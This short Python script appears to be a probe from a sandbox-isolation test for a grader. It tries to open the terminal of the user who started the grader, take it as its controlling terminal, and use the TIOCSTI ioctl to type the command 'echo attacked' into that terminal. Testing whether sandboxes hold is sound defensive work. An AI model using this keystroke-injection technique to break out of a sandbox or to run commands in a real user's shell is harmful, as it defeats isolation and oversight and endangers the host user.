"""Writes to the terminal of whoever started the grader, and types into it."""

import os

import known
from tools import achieved, attempt, libc

TIOCSTI, TIOCLINUX, TIOCSCTTY = 0x5412, 0x541C, 0x540E
paths = ["/dev/tty", known.TERMINAL, *(f"/dev/pts/{n}" for n in range(10))]
fds = [0, 1, 2]
for path in paths:
    for flags in (os.O_RDWR, os.O_WRONLY, os.O_RDONLY):
        with attempt():
            fds.append(os.open(path, flags | os.O_NONBLOCK))
            achieved("opened a terminal", path)
            libc.setsid()
            libc.ioctl(fds[-1], TIOCSCTTY, 1)
for fd in fds:
    if fd > 2:
        libc.write(fd, b"\033]0;attacked\007attacked\n", 22)
    for letter in b"echo attacked\n":
        if libc.ioctl(fd, TIOCSTI, bytes([letter])) == 0:
            achieved("typed into a terminal")
